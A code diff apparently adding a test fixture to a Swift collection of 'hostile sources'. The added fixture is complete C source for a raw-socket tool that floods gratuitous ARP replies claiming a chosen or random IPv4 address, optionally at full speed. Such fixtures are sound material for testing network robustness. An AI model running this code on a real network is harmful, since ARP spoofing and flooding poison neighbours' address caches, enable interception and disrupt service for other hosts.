@@ -80,4 +80,54 @@ enum HostileSources {
             return 0;
         }
         """
+
+    /// Claims addresses in gratuitous ARP replies.
+    static let claims = """
+        #include <arpa/inet.h>
+        #include <linux/if_ether.h>
+        #include <linux/if_packet.h>
+        #include <net/if.h>
+        #include <stdio.h>
+        #include <stdlib.h>
+        #include <string.h>
+        #include <sys/socket.h>
+        #include <time.h>
+        #include <unistd.h>
+
+        static double now(void) {
+            struct timespec time;
+            clock_gettime(CLOCK_MONOTONIC, &time);
+            return time.tv_sec + time.tv_nsec / 1e9;
+        }
+
+        // claims INTERFACE ADDRESS SECONDS MICROSECONDS: one every so many microseconds, 0 for as fast as it can; 0.0.0.0
+        // means another address each time.
+        int main(int argc, char **argv) {
+            if (argc != 5) return 2;
+            int end = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
+            struct sockaddr_ll name = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ARP)};
+            name.sll_ifindex = (int)if_nametoindex(argv[1]);
+            if (end < 0 || name.sll_ifindex == 0 || bind(end, (void *)&name, sizeof name) != 0) return 1;
+            unsigned address = inet_addr(argv[2]), any = address == 0;
+            useconds_t pause = (useconds_t)atoi(argv[4]);
+            unsigned long sent = 0, seed = 1;
+            static const unsigned char head[] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 2, 0xaa, 0, 0, 0, 1, 8, 6,
+                0, 1, 8, 0, 6, 4, 0, 2, 2, 0xaa, 0, 0, 0, 1};
+            for (double until = now() + atof(argv[3]); now() < until;) {
+                for (int burst = 0; burst < (pause ? 1 : 64); burst++) {
+                    unsigned char frame[60] = {0};
+                    seed = seed * 6364136223846793005ul + 1442695040888963407ul;
+                    if (any) address = (unsigned)(seed >> 32);
+                    memcpy(frame, head, sizeof head);
+                    memcpy(frame + 28, &address, 4);
+                    memcpy(frame + 32, head, 6);
+                    memcpy(frame + 38, &address, 4);
+                    sent += send(end, frame, sizeof frame, 0) == sizeof frame;
+                }
+                if (pause) usleep(pause);
+            }
+            printf("%lu frames\\n", sent);
+            return 0;
+        }
+        """
 }
